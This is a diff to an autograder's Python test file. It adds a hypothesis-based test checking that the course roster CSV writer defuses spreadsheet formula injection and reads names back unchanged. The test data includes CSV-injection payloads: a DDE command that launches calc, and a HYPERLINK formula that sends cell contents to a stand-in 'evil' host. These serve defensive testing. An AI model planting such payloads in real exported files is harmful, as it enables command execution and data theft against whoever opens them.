@@ -2,15 +2,20 @@
 
 from __future__ import annotations
 
+import csv
+import io
 from dataclasses import dataclass
 from datetime import UTC, datetime, timedelta
 from decimal import Decimal
 from pathlib import Path
+from tempfile import TemporaryDirectory
 
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
 from autograder import course
-from autograder.course import Course, CourseError, people
+from autograder.course import Course, CourseError, people, roster
 
 SOUND = """
 [course]
@@ -259,6 +264,26 @@ def test_dates_without_an_offset_are_by_the_courses_clocks(tmp_path: Path) -> No
     found = loaded(tmp_path, text + "[extensions.ann]\nlab = 2026-10-26T23:59:00\n")
     assert found.due("lab", "ben") == DUE
     assert found.due("lab", "ann") == datetime(2026, 10, 26, 22, 59, tzinfo=UTC)  # in winter
+
+
+FORMULAS = ["", "@SUM(1+9)*cmd|' /C calc'!A0", '=HYPERLINK("http://evil/?"&C2;"click")', "'=1",
+            "''+1", "a;-b", "Ben'-Ami", "O'Hara", "\uff1d1"]
+
+
+@given(st.lists(st.sampled_from(FORMULAS) | st.text("ab=+-@;,|'\" ", max_size=8),
+                min_size=3, max_size=3))
+def test_no_name_of_the_people_is_a_formula_and_each_is_read_as_it_is(texts: list[str]) -> None:
+    name, section, login = (" ".join(each.split()) for each in texts)
+    person = roster.Person("ann", name, section=section, ids={"login": login} if login else {})
+    text = roster.written([person])
+    for separator in ",;\t":
+        for row in csv.reader(io.StringIO(text), delimiter=separator):
+            assert not [cell for cell in row if cell.lstrip().startswith(tuple("=+-@＝"))]
+    with TemporaryDirectory() as folder:
+        course = loaded(Path(folder), SOUND)
+        (Path(folder) / "people.csv").write_text(text, encoding="utf-8")
+        assert roster.load(course).people == {"ann": person}
+        assert roster.written(roster.load(course).people.values()) == text
 
 
 @pytest.mark.parametrize("name", ["ann", " Ann", "ANN ", "a\u200bnn", "\uff41nn"])
